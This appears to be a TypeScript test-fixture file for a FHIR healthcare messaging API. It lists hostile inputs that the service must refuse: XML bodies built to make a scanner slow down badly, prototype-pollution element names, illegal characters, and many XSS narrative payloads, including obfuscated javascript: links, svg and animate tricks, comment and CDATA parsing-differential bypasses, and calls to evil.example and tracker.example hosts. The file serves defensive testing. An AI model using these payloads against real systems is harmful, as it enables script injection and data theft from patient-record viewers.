// Hostile text for the API (issue 11, points 4 and 11): bodies shaped to make a scanner super-linear, XML names that
// reach into JavaScript prototypes, and characters XML cannot carry sent as FHIR JSON. Each must get a clear 4xx,
// quickly. Generated, so the repository stays small.
import type { HostileCase } from "./cases.js";

const MESSAGES = "/v1/messages";
const ACKS = "/v1/acknowledgements";
const XML = "application/fhir+xml";
const FHIR_JSON = "application/fhir+json";
const JSON_TYPE = "application/json";
const FHIR = 'xmlns="http://hl7.org/fhir"';
const KB = 1024;

/** Shapes that made the former depth pre-scan cubic or quadratic (a 4 KB body held /healthz for 10 s). */
const superLinearXml: [string, string][] = [
  ["400 KB of unclosed tags", "<a".repeat(200 * KB)],
  ["400 KB of '<' inside an attribute value", `<Bundle ${FHIR} b='${"<a".repeat(200 * KB)}`],
  ["400 KB of unclosed tags with quotes", `<Bundle ${FHIR}>${'<b "'.repeat(100 * KB)}`],
  ["400 KB of unclosed comment openers", `<Bundle ${FHIR}>${"<!--".repeat(100 * KB)}`],
  ["400 KB of unclosed processing instructions", `<Bundle ${FHIR}>${"<?x".repeat(130 * KB)}`],
  ["400 KB of unclosed end tags", `<Bundle ${FHIR}>${"</b".repeat(130 * KB)}`],
  ["100,000-deep nesting of non-ASCII names", `<Bundle ${FHIR}>${"<æ>".repeat(100_000)}`],
];

const reservedNames: [string, string][] = ["__proto__", "constructor", "prototype"].flatMap((name) => [
  [`element <${name}>`, `<Bundle ${FHIR}><${name} value="x"/></Bundle>`],
  [`attribute ${name}`, `<Bundle ${FHIR}><id ${name}="x" value="a"/></Bundle>`],
  [
    `<${name}> in a narrative`,
    `<Bundle ${FHIR}><type value="message"/><text><div xmlns="http://www.w3.org/1999/xhtml"><${name}>x</${name}></div></text></Bundle>`,
  ],
]);

const xmlCharacters: [string, string][] = [
  ["a NUL in an XML attribute", `<Bundle ${FHIR}><id value="a\u0000"/></Bundle>`],
  ["an escape character in XML text", `<Bundle ${FHIR}><x>\u001b[2J</x></Bundle>`],
  ["a character reference to NUL", `<Bundle ${FHIR}><id value="a&#0;"/></Bundle>`],
  ["a character reference to U+FFFE", `<Bundle ${FHIR}><id value="a&#xFFFE;"/></Bundle>`],
];

const jsonCharacters: [string, string][] = [
  ["\\u0000", "\\u0000"],
  ["an escape character", "\\u001b"],
  ["a lone high surrogate", "\\ud800"],
  ["a lone low surrogate", "\\udc00"],
  ["U+FFFE", "\\ufffe"],
  ["U+FFFF", "\\uffff"],
];

const bundleWith = (escaped: string) =>
  `{"resourceType":"Bundle","id":"a","type":"message","entry":[{"resource":{"resourceType":"Patient","name":[{"family":"x${escaped}"}]}}]}`;

export const hostileTextCases: HostileCase[] = [
  ...superLinearXml.map(([what, body]) => ({ name: `super-linear scan: ${what}`, body })),
  ...reservedNames.map(([what, body]) => ({ name: `XML name: ${what}`, body, status: 400 })),
  ...xmlCharacters.map(([what, body]) => ({ name: `XML character: ${what}`, body, status: 400 })),
].flatMap((c) => [
  { ...c, name: `${c.name} → messages`, method: "POST" as const, path: MESSAGES, contentType: XML },
  { ...c, name: `${c.name} → acknowledgements`, method: "POST" as const, path: ACKS, as: "gp" as const, contentType: XML },
]).concat([
  ...jsonCharacters.map(([what, escaped]) => ({
    name: `FHIR JSON character: ${what} in a string`,
    method: "POST" as const,
    path: MESSAGES,
    contentType: FHIR_JSON,
    body: bundleWith(escaped),
    status: 400,
  })),
  {
    name: "FHIR JSON character: a NUL in a key",
    method: "POST",
    path: MESSAGES,
    contentType: FHIR_JSON,
    body: `{"resourceType":"Bundle","id":"a","type":"message","x\\u0000":"y"}`,
    status: 400,
  },
  {
    name: "compose character: a lone surrogate in the text",
    method: "POST",
    path: MESSAGES,
    contentType: JSON_TYPE,
    body: `{"kind":"new","sender":"5790001348120","receiver":"5790000209354","text":"a\\ud800"}`,
    status: 422,
  },
]);

/**
 * Narratives (issue 11, point 6). REFUSED: each ran script in Chromium, called out, or escaped the XHTML namespace,
 * through the former blocklist or around it. ACCEPTED: what FHIR's allow-list permits, text that merely mentions
 * script included; the e2e test loads each into a page as a receiver's viewer would and checks that nothing ran.
 */
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const d = (inner: string) => `<div ${XHTML}>${inner}</div>`;
const PWN = "window.__pwned=1";

export const refusedNarratives: [string, string][] = [
  ["script element", d(`<script>${PWN}</script>`)],
  ["img onerror", d(`<img src="#a" onerror="${PWN}"/>`)],
  ["img onerror after a slash (HTML syntax, JSON only)", d(`<p>x</p><img/src="x"/onerror="${PWN}">`)],
  ["event attribute in upper case", d(`<p ONCLICK="${PWN}">x</p>`)],
  ["javascript: link", d(`<a href="javascript:${PWN}">x</a>`)],
  ["javascript: link with a character reference", d(`<a href="jav&#x61;script:${PWN}">x</a>`)],
  ["javascript: link with a tab in the scheme", d(`<a href="java&#x9;script:${PWN}">x</a>`)],
  ["javascript: link with a leading control character", d(`<a href="&#x20;javascript:${PWN}">x</a>`)],
  ["JAVASCRIPT: in upper case", d(`<a href="JAVASCRIPT:${PWN}">x</a>`)],
  ["vbscript: link", d(`<a href="vbscript:msgbox(1)">x</a>`)],
  ["data: link", d(`<a href="data:text/html,&lt;script&gt;${PWN}&lt;/script&gt;">x</a>`)],
  ["image from outside", d(`<p>x</p><img src="https://tracker.example/pixel.gif"/>`)],
  ["image as a data: URL", d(`<p>x</p><img src="data:image/svg+xml,&lt;svg onload='${PWN}'/&gt;"/>`)],
  ["protocol-relative image", d(`<p>x</p><img src="//tracker.example/p.gif"/>`)],
  ["style with url()", d(`<p style="background:url(https://tracker.example/x)">x</p>`)],
  ["style with an escaped url()", d(`<p style="background:u\\72l(https://tracker.example/x)">x</p>`)],
  ["style with expression()", d(`<p style="width:expression(${PWN})">x</p>`)],
  ["style with @import", d(`<p style="@import 'https://tracker.example/x.css'">x</p>`)],
  ["style element", d(`<style>p{background:url(https://tracker.example/x)}</style><p>x</p>`)],
  ["iframe with srcdoc", d(`<iframe srcdoc="&lt;script&gt;parent.${PWN}&lt;/script&gt;"/>`)],
  ["object", d(`<object data="https://evil.example/x.swf"/>`)],
  ["embed", d(`<embed src="https://evil.example/x"/>`)],
  ["form with an action", d(`<form action="https://evil.example/"><input name="cpr"/></form>`)],
  ["base element", d(`<base href="https://evil.example/"/><a href="x">x</a>`)],
  ["meta refresh", d(`<meta http-equiv="refresh" content="0;url=https://evil.example/"/>`)],
  ["link element", d(`<link rel="stylesheet" href="https://evil.example/x.css"/>`)],
  ["svg with onload", d(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"/>`)],
  ["svg animate setting a javascript: href", d(`<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:${PWN}"/><text y="20">x</text></a></svg>`)],
  ["math with an href", d(`<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${PWN}">x</math>`)],
  ["prefixed script in the XHTML namespace", d(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${PWN}</h:script>`)],
  ["a paragraph moved to another namespace", d(`<p xmlns="http://www.w3.org/2000/svg">x</p>`)],
  ["details ontoggle", d(`<details open="open" ontoggle="${PWN}">x</details>`)],
  ["button with formaction", d(`<button formaction="javascript:${PWN}">x</button>`)],
  ["root that is not a div", `<p ${XHTML}>x</p>`],
  ["root outside the XHTML namespace", `<div xmlns="urn:x">x</div>`],
  ["not well-formed", `<div ${XHTML}><p>x</div>`],
];

export const acceptedNarratives: [string, string][] = [
  ["text that mentions javascript:", d("<p>Se javascript: alert(1) – det er bare tekst.</p>")],
  ["escaped markup as text", d(`<p>&lt;script&gt;${PWN}&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;</p>`)],
  ["text with on-words and equals signs", d("<p>Patient on medication = yes; onerror=1</p>")],
  ["https and mailto and tel links", d(`<p><a href="https://www.example.org/a?b=c#d">x</a> <a href="mailto:a@example.org">m</a> <a href="tel:+4512345678">t</a></p>`)],
  ["a fragment link and a relative link", d(`<p><a href="#p1">x</a> <a href="Patient/p1">p</a> <a name="top">t</a></p>`)],
  ["an image of a contained resource", d(`<p>Se billede</p><img src="#img1" alt="billede"/>`)],
  ["inert styles", d(`<p style="color: red; font-weight: bold" class="x">x</p>`)],
  ["a table with spans", d(`<table border="1"><tr><th scope="col">a</th><td colspan="2" align="left">b</td></tr></table>`)],
  ["line breaks and lists", d("<ul><li>a<br/>b</li></ul><ol start=\"2\"><li>c</li></ol>")],
];

/**
 * Narratives refused when they arrive as FHIR JSON (the div as a string, which a viewer may put into innerHTML as it
 * is). XML and HTML end these constructs at different places: XML reads what follows as comment, CDATA or
 * instruction; HTML ends `<!-->` and `<!--->` at once and `<![CDATA[` and `<?` at the first '>', so the rest is markup
 * to it. Each ran script in Chromium (issue 13, found while replacing the narrative reader). As FHIR XML they are
 * inert: the reader drops comments and instructions and keeps CDATA as text, which every writer escapes.
 */
export const refusedJsonNarratives: [string, string][] = [
  ["a comment HTML ends at once (<!-->)", d(`<p>x</p><!--><img src="x" onerror="${PWN}"/>-->`)],
  ["a comment HTML ends at once (<!--->)", d(`<p>x</p><!---><img src="x" onerror="${PWN}"/>-->`)],
  ["a CDATA section HTML ends at its first '>'", d(`<p>x</p><![CDATA[><img src="x" onerror="${PWN}"/>]]>`)],
  ["a processing instruction HTML ends at its first '>'", d(`<p>x</p><?x ><img src="x" onerror="${PWN}"/>?>`)],
];

/** Comments, CDATA sections and instructions that end where HTML ends them too: accepted. */
export const acceptedMarkupNarratives: [string, string][] = [
  ["a comment", d("<p>x<!-- a comment --></p>")],
  ["a CDATA section", d("<p><![CDATA[ 1 < 2 & 3 ]]></p>")],
  ["a processing instruction", d("<p>x<?x y?></p>")],
];
